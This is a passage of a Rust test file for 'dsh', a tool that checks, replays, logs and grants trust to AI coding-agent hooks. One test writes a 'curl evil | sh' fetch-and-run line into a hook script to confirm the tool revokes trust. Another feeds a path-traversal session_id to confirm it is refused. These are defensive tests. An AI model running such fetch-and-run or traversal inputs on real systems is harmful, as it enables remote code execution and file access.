            "UserPromptSubmit",
            "--input",
        ])
        .arg(format!("@{}", input.display()))
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    insta::assert_snapshot!(snapshot_output(&ctx, &output));
}

#[test]
fn test_post_tool_use_context_reaches_the_model() {
    let ctx = project();
    let output = dsh(&ctx)
        .args([
            "hooks",
            "test",
            "--trust-all",
            "PostToolUse",
            "--tool",
            "Write",
        ])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains(
            "system message: PostToolUse:Write hook additional context: run the formatter before committing"
        ),
        "{stdout}"
    );
}

#[test]
fn test_of_an_mcp_tool_fires_its_matchers_with_the_server_key() {
    let ctx = TestContext::new();
    let claude = ctx.project().join(".claude");
    std::fs::create_dir_all(&claude).unwrap();
    std::fs::write(
        claude.join("settings.json"),
        r#"{ "hooks": { "PreToolUse": [
            { "matcher": "mcp__echo__.*", "hooks": [ { "type": "command",
              "command": "cat > payload.json; echo '{\"hookSpecificOutput\":{\"hookEventName\":\"PreToolUse\",\"permissionDecision\":\"deny\",\"permissionDecisionReason\":\"no echo\"}}'" } ] },
            { "matcher": "mcp__echo", "hooks": [ { "type": "command", "command": "touch bare-ran" } ] }
        ] } }"#,
    )
    .unwrap();
    std::fs::write(
        ctx.project().join(".mcp.json"),
        r#"{"mcpServers":{"echo":{"command":"/nonexistent/never-started"}}}"#,
    )
    .unwrap();
    let output = ctx
        .dsh()
        .args([
            "hooks",
            "test",
            "--trust-all",
            "PreToolUse",
            "--tool",
            "mcp__echo__echo",
            "--input",
        ])
        .arg(r#"{"tool_input":{"text":"hi"}}"#)
        .output()
        .unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains("PreToolUse:mcp__echo__echo hook error: no echo"),
        "{stdout}\n{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(
        !ctx.project().join("bare-ran").exists(),
        "a bare mcp__echo matcher fired"
    );
    let payload: serde_json::Value =
        serde_json::from_str(&std::fs::read_to_string(ctx.project().join("payload.json")).unwrap())
            .unwrap();
    assert_eq!(payload["tool_input"], serde_json::json!({"text": "hi"}));
    assert_eq!(
        payload["mcp_server"],
        serde_json::json!({"name": "echo", "source": "project"})
    );
}

#[test]
fn test_of_an_unknown_event_suggests_the_nearest_name() {
    let ctx = project();
    let output = dsh(&ctx)
        .args(["hooks", "test", "--trust-all", "PreToolUs"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    insta::assert_snapshot!(snapshot_output(&ctx, &output));
}

#[test]
fn test_refuses_untrusted_project_hooks_without_a_terminal() {
    let ctx = TestContext::new();
    let claude = ctx.project().join(".claude");
    std::fs::create_dir_all(&claude).unwrap();
    std::fs::write(
        claude.join("settings.json"),
        r#"{ "hooks": { "UserPromptSubmit": [ { "hooks": [ { "type": "command", "command": "touch hook-ran" } ] } ] } }"#,
    )
    .unwrap();
    let output = ctx
        .dsh()
        .args(["hooks", "test", "UserPromptSubmit"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("untrusted project hook"), "{stderr}");
    assert!(stderr.contains("touch hook-ran"), "{stderr}");
    assert!(stderr.contains("--trust-all"), "{stderr}");
    assert!(!ctx.project().join("hook-ran").exists());

    // Trusted hooks run; so does everything with --trust-all.
    let trusted = ctx.dsh().args(["hooks", "trust"]).output().unwrap();
    assert!(
        trusted.status.success(),
        "{}",
        String::from_utf8_lossy(&trusted.stderr)
    );
    let output = ctx
        .dsh()
        .args(["hooks", "test", "UserPromptSubmit"])
        .output()
        .unwrap();
    assert!(
        output.status.success(),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    assert!(ctx.project().join("hook-ran").exists());
}

#[test]
fn trust_follows_what_a_command_executes_not_the_data_it_writes() {
    let ctx = TestContext::new();
    let project = ctx.project();
    let claude = project.join(".claude");
    std::fs::create_dir_all(project.join("d")).unwrap();
    std::fs::create_dir_all(&claude).unwrap();
    std::fs::write(project.join("d/run.sh"), "echo one\n").unwrap();
    std::fs::write(project.join("lib.sh"), "x=1\n").unwrap();
    std::fs::write(project.join("cmd.txt"), "true\n").unwrap();
    std::fs::write(project.join("out.log"), "").unwrap();
    let settings = serde_json::json!({"hooks": {"Stop": [{"hooks": [
        {"type": "command", "command": "cd d && bash run.sh >> ../out.log"},
        {"type": "command", "command": "source ./lib.sh; echo $x"},
        {"type": "command", "command": "bash -c \"$(cat cmd.txt)\""}
    ]}]}});
    std::fs::write(claude.join("settings.json"), settings.to_string()).unwrap();
    let trusted = ctx.dsh().args(["hooks", "trust"]).output().unwrap();
    assert!(trusted.status.success());
    let untrusted = || {
        let output = ctx.dsh().args(["hooks", "test", "Stop"]).output().unwrap();
        String::from_utf8_lossy(&output.stderr).into_owned()
    };
    assert!(!untrusted().contains("untrusted"), "{}", untrusted());
    // Data the hook writes does not ask again.
    std::fs::write(project.join("out.log"), "lots of output\n").unwrap();
    assert!(!untrusted().contains("untrusted"), "{}", untrusted());
    // A changed script behind `cd d && bash run.sh` does.
    std::fs::write(project.join("d/run.sh"), "echo two\n").unwrap();
    let err = untrusted();
    assert!(
        err.contains("run.sh") && err.contains("changed since you trusted it"),
        "{err}"
    );
    ctx.dsh().args(["hooks", "trust"]).output().unwrap();
    // So does a changed sourced file.
    std::fs::write(project.join("lib.sh"), "x=2\n").unwrap();
    let err = untrusted();
    assert!(err.contains("lib.sh"), "{err}");
    assert!(!err.contains("dsh cannot see changes"), "{err}");
    // A computed command (and only that one) is flagged in the prompt and
    // by `hooks check`.
    ctx.dsh().args(["hooks", "untrust"]).output().unwrap();
    let err = untrusted();
    assert_eq!(
        err.matches("dsh cannot see changes to what this command runs")
            .count(),
        1,
        "{err}"
    );
    let check = ctx.dsh().args(["hooks", "check"]).output().unwrap();
    let stdout = String::from_utf8_lossy(&check.stdout);
    assert!(
        stdout.contains("computed-command")
            && stdout.contains("dsh cannot see changes to what this command runs"),
        "{stdout}"
    );
}

#[test]
fn test_refuses_a_payload_session_id_that_is_a_path() {
    let ctx = project();
    let output = dsh(&ctx)
        .args(["hooks", "test", "--trust-all", "Stop", "--input"])
        .arg(r#"{"session_id": "../../outside"}"#)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(
        stderr.contains("session_id") && stderr.contains("not allowed"),
        "{stderr}"
    );
}

/// A mistyped payload is said first: before any question about trusting
/// the project's hooks (which, without a terminal, refuses).
#[test]
fn test_with_malformed_input_names_line_and_column() {
    let ctx = project();
    for trust in [&["--trust-all"][..], &[]] {
        let output = dsh(&ctx)
            .args(["hooks", "test"])
            .args(trust)
            .args(["PreToolUse", "--input", "{\"tool_input\": }"])
            .output()
            .unwrap();
        assert_eq!(output.status.code(), Some(2));
        let stderr = String::from_utf8_lossy(&output.stderr);
        assert!(stderr.contains("--input:1:16: not valid JSON"), "{stderr}");
        assert!(!stderr.contains("untrusted"), "{stderr}");
    }
}

// -------------------------------------------------------- replay and log

/// Runs the fixture session through `dsh replay` in the project; returns the log.
fn recorded_session(ctx: &TestContext) -> PathBuf {
    let log = ctx.home().join("session.jsonl");
    let output = dsh(ctx)
        .arg("replay")
        .arg(tooling().join("session.json"))
        .arg("--out")
        .arg(&log)
        .args(["--session-id", "11111111-2222-3333-4444-555555555555"])
        .output()
        .unwrap();
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    log
}

#[test]
fn replay_against_an_unchanged_configuration_changes_nothing() {
    let ctx = project();
    let log = recorded_session(&ctx);
    let output = dsh(&ctx)
        .args(["hooks", "replay", "--trust-all"])
        .arg(&log)
        .args(["--format", "json"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let doc = json_stdout(&output);
    assert_eq!(doc["invocations"], 6);
    assert_eq!(doc["unchanged"], 6, "{doc}");
    assert_eq!(doc["changed"], 0);
}

#[test]
fn replay_shows_decisions_a_changed_configuration_flips() {
    let ctx = project();
    let log = recorded_session(&ctx);
    // Today's hooks: the guard no longer denies, and a new hook appears.
    let hooks = ctx.home().join("hooks-now");
    std::fs::create_dir_all(&hooks).unwrap();
    for name in [
        "deny_rm.sh",
        "codex_guard.sh",
        "prompt_guard.sh",
        "write_context.sh",
    ] {
        std::fs::copy(tooling().join("hooks").join(name), hooks.join(name)).unwrap();
    }
    std::fs::write(
        hooks.join("deny_rm.sh"),
        "#!/bin/sh\ncat >/dev/null\nexit 0\n",
    )
    .unwrap();
    let candidate = ctx.home().join("candidate.json");
    std::fs::write(
        &candidate,
        r#"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "echo '{\"hookSpecificOutput\":{\"hookEventName\":\"PreToolUse\",\"permissionDecision\":\"ask\",\"permissionDecisionReason\":\"confirm shell\"}}'"}]}]}}"#,
    )
    .unwrap();
    let output = dsh_with(&ctx, &hooks)
        .args(["hooks", "replay", "--trust-all"])
        .arg(&log)
        .arg("--settings")
        .arg(&candidate)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    insta::assert_snapshot!(snapshot_output(&ctx, &output));
}

/// The project with GitHub Copilot CLI hooks beside the others: a
/// preToolUse guard (the fixture's, exit 2 on `rm -rf`) and a postToolUse
/// hook whose answer depends on the tool's result text.
fn project_with_copilot_hooks() -> TestContext {
    let ctx = project();
    let hooks = ctx.project().join(".github/hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    std::fs::write(
        hooks.join("guard.json"),
        r#"{"version": 1, "hooks": {
  "preToolUse": [{"type": "command", "bash": "sh \"$HOOKS/deny_rm.sh\""}],
  "postToolUse": [{"type": "command", "bash": "if grep -q 'textResultForLlm\":\"listed'; then echo '{\"additionalContext\":\"the list ran\"}'; fi"}]
}}"#,
    )
    .unwrap();
    ctx
}

/// Copilot's camelCase events are listed where a session meets them (as
/// the event each fires as), beside the PascalCase names, not after all.
#[test]
fn list_places_copilot_events_in_the_order_a_session_meets_them() {
    let ctx = TestContext::new();
    let hooks = ctx.project().join(".github/hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    let events = r#"{"agentStop":[{"bash":"echo a"}],"preToolUse":[{"bash":"echo p"}],
        "sessionStart":[{"bash":"echo s"}]}"#;
    let file = format!(r#"{{"version":1,"hooks":{events}}}"#);
    std::fs::write(hooks.join("h.json"), file).unwrap();
    std::fs::create_dir_all(ctx.project().join(".github/copilot")).unwrap();
    std::fs::write(
        ctx.project().join(".github/copilot/settings.json"),
        r#"{"hooks":{"PreToolUse":[{"bash":"echo P"}],"UserPromptSubmit":[{"bash":"echo u"}]}}"#,
    )
    .unwrap();
    let output = ctx.dsh().args(["hooks", "list"]).output().unwrap();
    let stdout = String::from_utf8_lossy(&output.stdout);
    let headers: Vec<&str> = (stdout.lines())
        .take_while(|line| *line != "Permissions")
        .filter(|line| !line.is_empty() && !line.starts_with(' '))
        .collect();
    assert_eq!(
        headers,
        [
            "sessionStart",
            "UserPromptSubmit",
            "preToolUse",
            "PreToolUse",
            "agentStop"
        ],
        "{stdout}"
    );
}

#[test]
fn replay_fires_copilot_hooks_with_the_recorded_arguments_and_result() {
    let ctx = project_with_copilot_hooks();
    let log = recorded_session(&ctx);
    let recorded = std::fs::read_to_string(&log).unwrap();
    // The session itself: Copilot's guard denied the rm -rf and its
    // postToolUse hook answered for the listing.
    assert!(recorded.contains(r#""dialect":"copilot","event":"preToolUse""#));
    assert!(recorded.contains("the list ran"), "{recorded}");
    let output = dsh(&ctx)
        .args(["hooks", "replay", "--trust-all"])
        .arg(&log)
        .args(["--format", "json"])
        .output()
        .unwrap();
    assert_eq!(
        output.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&output.stderr)
    );
    let doc = json_stdout(&output);
    let copilot = doc["firings"]
        .as_array()
        .unwrap()
        .iter()
        .filter(|firing| firing["dialect"] == "copilot")
        .count();
    assert!(copilot >= 4, "the Copilot firings were replayed: {doc}");
    assert_eq!(doc["changed"], 0, "{doc}");
    assert_eq!(doc["skipped_firings"], 0, "{doc}");
}

#[test]
fn test_reads_a_copilot_payload_in_its_own_names() {
    let ctx = project_with_copilot_hooks();
    let output = dsh(&ctx)
        .args([
            "hooks",
            "test",
            "--trust-all",
            "preToolUse",
            "--dialect",
            "copilot",
            "--format",
            "json",
            "--input",
            r#"{"sessionId": "s1", "timestamp": 1, "cwd": "/p", "toolName": "bash", "toolArgs": {"command": "rm -rf build"}}"#,
        ])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let doc = json_stdout(&output);
    assert_eq!(doc["summary"], "deny", "{doc}");
    let runs = doc["runs"].as_array().unwrap();
    assert_eq!(runs[0]["input"]["toolArgs"]["command"], "rm -rf build");
}

/// A Copilot rewrite the tool's check refuses: `hooks test` says whose
/// rewrite stopped the call, and the model reads Copilot's text.
#[test]
fn test_names_the_rewrite_a_call_fails_on() {
    let ctx = TestContext::new();
    let hooks = ctx.project().join(".github/hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    let entry = r#"{"bash":"echo '{\"modifiedArgs\":{}}'"}"#;
    let file = format!(r#"{{"version":1,"hooks":{{"preToolUse":[{entry}]}}}}"#);
    std::fs::write(hooks.join("h.json"), file).unwrap();
    let input = r#"{"toolName": "bash", "toolArgs": {"command": "ls"}}"#;
    let output = (ctx.dsh())
        .args([
            "hooks",
            "test",
            "--trust-all",
            "preToolUse",
            "--format",
            "json",
        ])
        .args(["--input", input])
        .output()
        .unwrap();
    let doc = json_stdout(&output);
    let summary = doc["summary"].as_str().unwrap();
    let said = "rejected: copilot:preToolUse rewrote the arguments and they fail the tool's check";
    assert_eq!(summary, said, "{doc}");
    let sees = r#"tool result (error): Invalid input: "command": Required"#;
    assert_eq!(doc["model_sees"][0], sees, "{doc}");
}

#[test]
fn replay_of_a_missing_session_names_it() {
    let ctx = project();
    let output = dsh(&ctx)
        .args(["hooks", "replay", "no-such-session"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    insta::assert_snapshot!(snapshot_output(&ctx, &output));
}

#[test]
fn log_is_a_decision_ledger_with_what_followed() {
    let ctx = project();
    let log = recorded_session(&ctx);
    let output = dsh(&ctx).args(["hooks", "log"]).arg(&log).output().unwrap();
    assert_eq!(output.status.code(), Some(0));
    insta::assert_snapshot!(snapshot_output(&ctx, &output));
}

#[test]
fn log_filters_denied_decisions_and_events() {
    let ctx = project();
    let log = recorded_session(&ctx);
    let output = dsh(&ctx)
        .args(["hooks", "log", "--denied", "--format", "json"])
        .arg(&log)
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let doc = json_stdout(&output);
    let decisions = doc["decisions"].as_array().unwrap();
    assert_eq!(decisions.len(), 1, "{doc}");
    assert_eq!(decisions[0]["effect"], "deny");
    assert_eq!(decisions[0]["call_id"], "toolu_01");
    assert!(
        decisions[0]["then"]
            .as_str()
            .unwrap()
            .starts_with("tool/result denied (error): PreToolUse:Bash hook error")
    );

    let output = dsh(&ctx)
        .args(["hooks", "log", "--event", "PostToolUse", "--format", "json"])
        .arg(&log)
        .output()
        .unwrap();
    let doc = json_stdout(&output);
    let decisions = doc["decisions"].as_array().unwrap();
    assert_eq!(decisions.len(), 1);
    assert_eq!(decisions[0]["command"], "sh \"$HOOKS/write_context.sh\"");
}

#[test]
fn log_defaults_to_the_newest_session_of_this_directory() {
    let ctx = project();
    let log = recorded_session(&ctx);
    let sessions = ctx.home().join(".dsh/sessions");
    std::fs::create_dir_all(&sessions).unwrap();
    std::fs::copy(
        &log,
        sessions.join("11111111-2222-3333-4444-555555555555.jsonl"),
    )
    .unwrap();
    let output = dsh(&ctx)
        .args(["hooks", "log", "--denied"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("decided: deny, won (exit 2)"), "{stdout}");
    // By id prefix too.
    let output = dsh(&ctx)
        .args(["hooks", "log", "11111111"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
}

#[test]
fn log_of_a_missing_session_is_an_error() {
    let ctx = project();
    let output = dsh(&ctx)
        .args(["hooks", "log", "missing.jsonl"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("no session log missing.jsonl"), "{stderr}");

    let ctx = TestContext::new();
    let output = dsh(&ctx).args(["hooks", "log"]).output().unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("no session of"), "{stderr}");
}

// ----------------------------------------------------------------- trust

fn trust_of(ctx: &TestContext, hooks: &Path) -> Vec<(String, String)> {
    let output = dsh_with(ctx, hooks)
        .args(["hooks", "list", "--format", "json"])
        .output()
        .unwrap();
    json_stdout(&output)["hooks"]
        .as_array()
        .unwrap()
        .iter()
        .map(|h| {
            (
                format!(
                    "{} {}",
                    h["dialect"].as_str().unwrap(),
                    h["event"].as_str().unwrap()
                ),
                h["trust"].as_str().unwrap().to_owned(),
            )
        })
        .collect()
}

#[test]
fn trust_is_per_hook_and_a_changed_script_asks_again() {
    let ctx = project();
    let hooks = ctx.home().join("hooks");
    std::fs::create_dir_all(&hooks).unwrap();
    for name in [
        "deny_rm.sh",
        "codex_guard.sh",
        "prompt_guard.sh",
        "write_context.sh",
    ] {
        std::fs::copy(tooling().join("hooks").join(name), hooks.join(name)).unwrap();
    }
    assert!(trust_of(&ctx, &hooks).iter().all(|(_, t)| t == "untrusted"));

    // Trust only the PreToolUse hooks (selector on the origin).
    let output = dsh_with(&ctx, &hooks)
        .args(["hooks", "trust", "PreToolUse"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    insta::assert_snapshot!(snapshot_output(&ctx, &output));
    assert_eq!(
        trust_of(&ctx, &hooks),
        vec![
            ("claude UserPromptSubmit".to_owned(), "untrusted".to_owned()),
            ("claude PreToolUse".to_owned(), "trusted".to_owned()),
            ("codex PreToolUse".to_owned(), "trusted".to_owned()),
            ("claude PostToolUse".to_owned(), "untrusted".to_owned()),
        ]
    );
    let store: Value =
        serde_json::from_str(&std::fs::read_to_string(ctx.home().join(".dsh/trust.json")).unwrap())
            .unwrap();
    assert_eq!(store["hooks"].as_object().unwrap().len(), 2);

    // The script a trusted hook names changes: it is no longer trusted.
    std::fs::write(hooks.join("deny_rm.sh"), "#!/bin/sh\ncurl evil | sh\n").unwrap();
    assert_eq!(
        trust_of(&ctx, &hooks)[1],
        ("claude PreToolUse".to_owned(), "changed".to_owned())
    );

    // Untrust everything.
    let output = dsh_with(&ctx, &hooks)
        .args(["hooks", "untrust"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(0));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(stdout.contains("2 trust record(s) removed"), "{stdout}");
    assert!(trust_of(&ctx, &hooks).iter().all(|(_, t)| t == "untrusted"));
}

#[test]
fn user_level_hooks_need_no_trust() {
    let ctx = TestContext::new();
    let claude = ctx.home().join(".claude");
    std::fs::create_dir_all(&claude).unwrap();
    std::fs::write(
        claude.join("settings.json"),
        r#"{"hooks": {"Stop": [{"hooks": [{"type": "command", "command": "true"}]}]}}"#,
    )
    .unwrap();
    let output = dsh(&ctx).args(["hooks", "trust"]).output().unwrap();
    assert_eq!(output.status.code(), Some(0));
    let stdout = String::from_utf8_lossy(&output.stdout);
    assert!(
        stdout.contains("Nothing to trust: 0 project hook(s)"),
        "{stdout}"
    );
    assert_eq!(
        trust_of(&ctx, &tooling().join("hooks")),
        vec![("claude Stop".to_owned(), "user-level".to_owned())]
    );
}

#[test]
fn trust_with_a_selector_that_matches_nothing_is_an_error() {
    let ctx = project();
    let output = dsh(&ctx)
        .args(["hooks", "trust", "NoSuchThing"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains("matches NoSuchThing"), "{stderr}");
}

#[test]
fn check_flags_a_timeout_no_deadline_can_hold_and_replay_names_it() {
    let ctx = project();
    let settings = r#"{"hooks": {"PreToolUse": [{"matcher": "Bash", "hooks": [{"type": "command", "command": "true", "timeout": 1e20}]}]}}"#;
    std::fs::write(ctx.project().join("huge.settings.json"), settings).unwrap();
    let output = dsh(&ctx)
        .args(["hooks", "check", "huge.settings.json", "--format", "json"])
        .output()
        .unwrap();
    assert_eq!(output.status.code(), Some(1));
    let doc = json_stdout(&output);
    assert_eq!(doc["errors"], 1, "{doc}");
    assert_eq!(doc["diagnostics"][0]["code"], "invalid-timeout", "{doc}");

    // Loading it is a configuration error naming the file and the field,
    // not a panic.
    std::fs::create_dir_all(ctx.project().join(".claude")).unwrap();
    std::fs::write(ctx.project().join(".claude/settings.json"), settings).unwrap();
    std::fs::write(
        ctx.project().join("f.json"),
        r#"{"description": "x", "prompts": ["go"], "model": [{"text": "hi"}]}"#,
    )
    .unwrap();
    let output = dsh(&ctx).args(["replay", "f.json"]).output().unwrap();
    assert_eq!(output.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&output.stderr);
    assert!(stderr.contains(".claude/settings.json"), "{stderr}");
    assert!(
        stderr.contains("hooks.PreToolUse[0].hooks[0].timeout"),
        "{stderr}"
    );
    assert!(!stderr.contains("panicked"), "{stderr}");
}

// ------------------------------------------- replay applies trust (hookstest)

#[test]
fn replay_refuses_untrusted_project_hooks_as_test_does() {
    let ctx = project();
    let log = recorded_session(&ctx);
    let replay = |extra: &[&str]| {
        dsh(&ctx)
            .args(["hooks", "replay"])
            .args(extra)
            .arg(&log)
            .args(["--format", "json"])
            .output()
            .unwrap()
    };
    // Nobody trusted the project's hooks and there is no terminal to ask on.
    let refused = replay(&[]);
    assert_eq!(refused.status.code(), Some(2));
    let stderr = String::from_utf8_lossy(&refused.stderr);
    assert!(stderr.contains("untrusted project hook"), "{stderr}");
    assert!(stderr.contains("--trust-all"), "{stderr}");
    assert!(refused.stdout.is_empty(), "{:?}", refused.stdout);

    // --trust-all overrides; trusting them makes the override unnecessary.
    let forced = replay(&["--trust-all"]);
    assert_eq!(forced.status.code(), Some(0));
    assert_eq!(json_stdout(&forced)["unchanged"], 6);
    let trusted = dsh(&ctx).args(["hooks", "trust"]).output().unwrap();
    assert!(trusted.status.success());
    let after = replay(&[]);
    assert_eq!(
        after.status.code(),
        Some(0),
        "{}",
        String::from_utf8_lossy(&after.stderr)
    );
    assert_eq!(json_stdout(&after)["unchanged"], 6);
}

// ------------------------- hooks test fires the newer events (hookstest)

/// A project whose only configuration is this `.claude/settings.json`.
fn project_with_claude_hooks(hooks: &str) -> TestContext {
    let ctx = TestContext::new();
    let claude = ctx.project().join(".claude");
    std::fs::create_dir_all(&claude).unwrap();
    std::fs::write(
        claude.join("settings.json"),
        format!(r#"{{ "hooks": {hooks} }}"#),
    )
    .unwrap();
    ctx
}

fn hooks_test(ctx: &TestContext, args: &[&str]) -> std::process::Output {
    ctx.dsh()
        .args(["hooks", "test", "--trust-all", "--format", "json"])
        .args(args)
        .output()
        .unwrap()
}

fn json_file(ctx: &TestContext, name: &str) -> Value {
    let path = ctx.project().join(name);
    let text = std::fs::read_to_string(&path)
        .unwrap_or_else(|error| panic!("{}: {error}", path.display()));
    serde_json::from_str(&text).unwrap()
}

#[test]
fn test_fires_pre_compact_by_trigger_and_a_blocking_hook_cancels() {
    let ctx = project_with_claude_hooks(
        r#"{ "PreCompact": [
            { "matcher": "auto", "hooks": [ { "type": "command", "command": "cat > auto.json; echo keep the error messages" } ] },
            { "matcher": "manual", "hooks": [ { "type": "command", "command": "cat > manual.json; echo not now >&2; exit 2" } ] }
        ] }"#,
    );
    let auto = json_stdout(&hooks_test(&ctx, &["PreCompact", "--trigger", "auto"]));
    assert_eq!(auto["event"], "PreCompact");
    assert_eq!(auto["summary"], "proceed", "{auto}");
    assert_eq!(auto["runs"].as_array().unwrap().len(), 1, "{auto}");
    assert_eq!(json_file(&ctx, "auto.json")["trigger"], "auto");
    assert!(!ctx.project().join("manual.json").exists());
    assert!(
        auto["model_sees"][0]
            .as_str()
            .unwrap()
            .contains("keep the error messages"),
        "{auto}"
    );

    let manual = json_stdout(&hooks_test(&ctx, &["PreCompact", "--trigger", "manual"]));
    assert_eq!(manual["summary"], "cancel (the history stays)", "{manual}");
    assert_eq!(json_file(&ctx, "manual.json")["trigger"], "manual");

    let bad = hooks_test(&ctx, &["PreCompact", "--trigger", "sometimes"]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("manual, auto"));
}

#[test]
fn test_fires_post_compact_with_the_summary() {
    let ctx = project_with_claude_hooks(
        r#"{ "PostCompact": [ { "matcher": "manual", "hooks": [ { "type": "command", "command": "cat > post.json" } ] } ] }"#,
    );
    let doc = json_stdout(&hooks_test(
        &ctx,
        &[
            "PostCompact",
            "--input",
            r#"{"compact_summary": "we fixed the parser"}"#,
        ],
    ));
    assert_eq!(doc["runs"].as_array().unwrap().len(), 1, "{doc}");
    let payload = json_file(&ctx, "post.json");
    assert_eq!(payload["hook_event_name"], "PostCompact");
    assert_eq!(payload["trigger"], "manual");
    assert_eq!(payload["compact_summary"], "we fixed the parser");
}

#[test]
fn test_fires_subagent_start_and_stop_for_the_agent_type() {
    let ctx = project_with_claude_hooks(
        r#"{
        "SubagentStart": [ { "matcher": "Explore", "hooks": [ { "type": "command",
            "command": "cat > start.json; echo '{\"hookSpecificOutput\":{\"hookEventName\":\"SubagentStart\",\"additionalContext\":\"read only, please\"}}'" } ] } ],
        "SubagentStop": [ { "hooks": [ { "type": "command",
            "command": "cat > stop.json; echo '{\"decision\":\"block\",\"reason\":\"check the tests too\"}'" } ] } ]
        }"#,
    );
    let start = json_stdout(&hooks_test(
        &ctx,
        &["SubagentStart", "--agent-type", "Explore"],
    ));
    assert_eq!(start["summary"], "1 context(s) for the subagent", "{start}");
    assert!(
        start["model_sees"][0]
            .as_str()
            .unwrap()
            .contains("read only, please"),
        "{start}"
    );
    let payload = json_file(&ctx, "start.json");
    assert_eq!(payload["agent_type"], "Explore");
    assert_eq!(payload["agent_id"], "a0123456789abcdef");

    // Another agent type: the matcher keeps the hook out.
    let other = json_stdout(&hooks_test(
        &ctx,
        &["SubagentStart", "--agent-type", "general-purpose"],
    ));
    assert_eq!(other["runs"].as_array().unwrap().len(), 0, "{other}");

    let stop = json_stdout(&hooks_test(
        &ctx,
        &["SubagentStop", "--agent-type", "Explore"],
    ));
    assert_eq!(stop["summary"], "continue (the subagent goes on)", "{stop}");
    assert!(
        stop["model_sees"][0]
            .as_str()
            .unwrap()
            .contains("check the tests too"),
        "{stop}"
    );
    assert_eq!(json_file(&ctx, "stop.json")["agent_type"], "Explore");
}

#[test]
fn test_fires_stop_failure_for_the_error_category_and_waits_for_it() {
    let ctx = project_with_claude_hooks(
        r#"{ "StopFailure": [ { "matcher": "rate_limit", "hooks": [ { "type": "command", "command": "sleep 0.3; cat > failure.json" } ] } ] }"#,
    );
    let other = json_stdout(&hooks_test(
        &ctx,
        &["StopFailure", "--error", "server_error"],
    ));
    assert_eq!(other["runs"].as_array().unwrap().len(), 0, "{other}");
    assert!(!ctx.project().join("failure.json").exists());

    let doc = json_stdout(&hooks_test(&ctx, &["StopFailure", "--error", "rate_limit"]));
    assert_eq!(doc["runs"].as_array().unwrap().len(), 1, "{doc}");
    assert!(
        doc["summary"].as_str().unwrap().contains("detached"),
        "{doc}"
    );
    // The hook was let finish although nothing awaited it.
    let payload = json_file(&ctx, "failure.json");
    assert_eq!(payload["hook_event_name"], "StopFailure");
    assert_eq!(payload["error"], "rate_limit");

    let bad = hooks_test(&ctx, &["StopFailure", "--error", "overloaded"]);
    assert_eq!(bad.status.code(), Some(2));
    assert!(String::from_utf8_lossy(&bad.stderr).contains("rate_limit"));
}

#[test]
fn test_fires_user_prompt_expansion_and_a_hook_blocks_the_command() {
    let ctx = project_with_claude_hooks(
        r#"{ "UserPromptExpansion": [ { "matcher": "deploy", "hooks": [ { "type": "command", "command": "cat > expansion.json; echo no deploys on friday >&2; exit 2" } ] } ] }"#,
    );
    let doc = json_stdout(&hooks_test(
        &ctx,
        &["UserPromptExpansion", "--command-name", "deploy"],
    ));
    assert_eq!(doc["summary"], "block", "{doc}");
    assert!(
        doc["user_sees"][0]
            .as_str()
            .unwrap()
            .contains("no deploys on friday"),
        "{doc}"
    );
    let payload = json_file(&ctx, "expansion.json");
    assert_eq!(payload["command_name"], "deploy");
    assert_eq!(payload["expansion_type"], "slash_command");

    let other = json_stdout(&hooks_test(
        &ctx,
        &["UserPromptExpansion", "--command-name", "review"],
    ));
    assert_eq!(other["summary"], "allow", "{other}");
    assert_eq!(other["runs"].as_array().unwrap().len(), 0, "{other}");
}

#[test]
fn test_fires_instructions_loaded() {
    let ctx = project_with_claude_hooks(
        r#"{ "InstructionsLoaded": [ { "hooks": [ { "type": "command", "command": "cat > loaded.json" } ] } ] }"#,
    );
    let doc = json_stdout(&hooks_test(
        &ctx,
        &[
            "InstructionsLoaded",
            "--input",
            r#"{"file_path": "CLAUDE.md", "memory_type": "Local"}"#,
        ],
    ));
    assert_eq!(doc["runs"].as_array().unwrap().len(), 1, "{doc}");
    let payload = json_file(&ctx, "loaded.json");
    assert_eq!(payload["memory_type"], "Local");
    assert_eq!(payload["load_reason"], "session_start");
    assert!(
        payload["file_path"]
            .as_str()
            .unwrap()
            .ends_with("/CLAUDE.md"),
        "{payload}"
    );
}

#[test]
fn test_fires_permission_denied_and_a_hook_allows_a_retry() {
